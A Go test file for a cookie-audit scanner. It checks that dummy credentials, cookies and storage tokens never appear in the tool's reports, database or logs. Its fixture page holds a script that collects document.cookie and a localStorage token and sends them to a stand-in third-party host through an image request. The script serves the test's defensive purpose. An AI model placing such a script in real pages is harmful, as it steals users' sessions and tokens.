package main

import (
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"cookieaudit/fixtures"
)

// mirror is a site that gives back whatever it is sent: in addresses, cookies,
// titles, storage and text.
func mirror(w http.ResponseWriter, r *http.Request) {
	_ = r.ParseForm()
	given := []string{r.Header.Get("Authorization"), r.Header.Get("Cookie"), r.Form.Get("user"), r.Form.Get("pass")}
	text := strings.Join(given, "|")
	http.SetCookie(w, &http.Cookie{Name: "mine", Value: strings.TrimPrefix(r.Form.Get("pass"), " ")})
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	fmt.Fprintf(w, `<!doctype html><html lang=en><title>%[1]s</title><link rel=icon href=data:,><h1>Cookie policy</h1><p>We use cookies: %[1]s</p>
<form action=/entered><input id=user name=user><input id=pass name=pass type=password><button id=go>Go</button></form>
<a href="/cookies?echo=%[2]s">Cookie policy</a>
<script>const all = document.cookie + localStorage.getItem("token");
document.cookie = "echo=" + encodeURIComponent(all); localStorage.setItem("echo-" + localStorage.getItem("token"), all);
new Image().src = "https://third.mirror2.test/?all=" + encodeURIComponent(all);</script>`, text, strings.ReplaceAll(text, " ", "+"))
}

// No value that the user gives comes into a database, a report or a log,
// whatever the site does with it.
func TestNoSecretLeaks(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("needs a browser")
	}
	server, err := fixtures.Serve(fixtures.Options{Handlers: map[string]http.Handler{
		"www.mirror.test": http.HandlerFunc(mirror), "third.mirror2.test": http.HandlerFunc(mirror),
	}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := server.Close(); err != nil {
			t.Error(err)
		}
	})
	for _, mode := range [][]string{nil, {"--keep-values"}} {
		t.Run("with"+strings.Join(mode, ""), func(t *testing.T) {
			t.Parallel()
			leaks(t, server, mode)
		})
	}
}

func leaks(t *testing.T, server *fixtures.Server, mode []string) {
	dir := t.TempDir()
	write := func(name, text string) {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write("cookies.txt", "www.mirror.test\tFALSE\t/\tTRUE\t0\tjar\thush-jar-cookie\n")
	write("storage.json", `{"https://www.mirror.test": {"localStorage": {"token": "hush-local-token"}, "sessionStorage": {"tab": "hush-session-token"}}}`)
	write("login.yaml", "- navigate: /login\n- fill: {selector: '#user', value: '${FILE:user.txt}'}\n- fill: {selector: '#pass', value: '${ENV:PASS}'}\n- click: '#go'\n- wait: {url: '/entered*'}\n")
	write("user.txt", "hush-user@mirror.test\n")
	args := []string{
		"scan", "--insecure", "--pages", "1", "--phases", "before", "--fail-on", "none", "--db", "out/x.db", "--locale", "de-AT", "--gpc",
		"--header", "Authorization: Bearer env:TOKEN", "--cookie", "@cookies.txt", "--cookie", "plain=env:COOKIE", "--storage", "storage.json", "--login", "login.yaml",
		"--evidence", "out/case",
		"--details", "--format", "table=out/t.txt", "--format", "json=out/r.json", "--format", "jsonl=out/r.jsonl", "--format", "html=out/r.html",
		"--format", "md=out/r.md", "--format", "csv=out/r.csv", "https://www.mirror.test/",
	}
	args = slices.Insert(args, 1, mode...)
	for _, rule := range server.Resolve() {
		if strings.Contains(rule, "mirror") {
			args = append(args[:len(args)-1], "--resolve", rule, args[len(args)-1])
		}
	}
	if err := os.Mkdir(filepath.Join(dir, "out"), 0o750); err != nil {
		t.Fatal(err)
	}
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	// The test binary runs as the program under its name.
	program := filepath.Join(dir, "cookieaudit")
	if err := os.Symlink(exe, program); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(program, args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "TOKEN=hush-bearer-token", "COOKIE=hush plain cookie", "PASS=hush/pass word+")
	said, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("%v: %s", err, said)
	}
	write("out/said.txt", string(said))
	report := readFile(t, filepath.Join(dir, "out/r.json"))
	for _, want := range []string{`"locale": "de-AT"`, `"Authorization"`, `"jar"`, `"plain"`, `"login_steps": 5`, `"tab"`, "‹start state›"} {
		if !strings.Contains(report, want) {
			t.Errorf("the report does not say %s", want)
		}
	}
	var files []string
	err = filepath.WalkDir(filepath.Join(dir, "out"), func(name string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			files = append(files, name)
		}
		return err
	})
	if err != nil || len(files) < 20 {
		t.Fatalf("%v, %v", files, err)
	}
	for _, f := range files {
		body, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		for _, secret := range []string{"hush", "aHVzaC", "pass word", "pass%20word", "pass+word"} {
			if i := strings.Index(string(body), secret); i >= 0 {
				t.Errorf("%s holds %q: …%s…", filepath.Base(f), secret, body[max(0, i-80):min(len(body), i+80)])
			}
		}
	}
}
